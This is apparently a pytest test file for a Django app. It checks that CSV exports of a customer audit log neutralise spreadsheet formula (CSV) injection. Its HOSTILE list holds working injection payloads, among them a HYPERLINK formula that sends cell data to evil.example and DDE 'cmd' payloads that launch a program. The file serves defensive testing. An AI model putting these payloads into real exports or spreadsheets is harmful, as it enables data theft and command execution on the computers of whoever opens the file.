"""CSV exports open safely in a spreadsheet: a cell from outside that would start a
formula is neutralised as OWASP recommends ("CSV Injection")."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse

from audit.context import acting_as
from customers.models import Contact, Customer
from kit.csv_export import formula_neutralised

pytestmark = pytest.mark.django_db

# Each starts a formula in Excel, LibreOffice Calc or Google Sheets when opened as CSV.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def export(client) -> tuple[str, list[list[str]]]:
    response = client.get(reverse("admin:customers_customer_audit_log_csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("cell", HOSTILE, ids=repr)
def test_a_cell_that_would_start_a_formula_gets_a_single_quote_in_front(cell):
    assert formula_neutralised(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["Acme Corp", "", "2031-03-20T12:00:00+00:00", "a=b", "x-1"])
def test_a_cell_that_starts_no_formula_is_left_as_it_is(cell):
    assert formula_neutralised(cell) == cell


def test_numbers_the_app_made_stay_numbers_but_text_that_looks_like_one_is_text():
    # A negative amount the app computed is a number, not something typed from outside:
    # it stays summable. The same characters as text (a name, a reason) get the quote.
    assert formula_neutralised(Decimal("-12.50")) == Decimal("-12.50")
    assert formula_neutralised(-3) == -3
    assert formula_neutralised("-12.50") == "'-12.50"


def test_the_audit_log_export_neutralises_every_hostile_cell(client, superuser):
    with acting_as(HOSTILE[3], reason=HOSTILE[4]):
        customer = Customer.objects.create(external_id="evil-1", name=HOSTILE[0])
    with acting_as(HOSTILE[1], reason=HOSTILE[5]):
        Contact.objects.create(customer=customer, name=HOSTILE[2], email="x@example.com")
    client.force_login(superuser)

    text, rows = export(client)

    customer_row, contact_row = (
        next(row for row in rows if row[2] == kind) for kind in ("customer", "contact")
    )
    assert customer_row[1:] == [
        "'" + HOSTILE[3],
        "customer",
        str(customer.pk),
        "'" + HOSTILE[0],
        "created",
        "",
        "'" + HOSTILE[4],
        "",
    ]
    assert (contact_row[1], contact_row[4], contact_row[7]) == (
        "'" + HOSTILE[1],
        f"'{HOSTILE[2]} <x@example.com>",
        "'" + HOSTILE[5],
    )
    # Nothing else in the file starts a formula either.
    for row in rows:
        assert [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    # Every cell is quoted (quotes inside doubled), so a separator inside one can never
    # start a cell of its own in a program that splits lines naively.
    assert text.startswith('"when","actor","record type","record id","record",')
    assert '"\'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"' in text
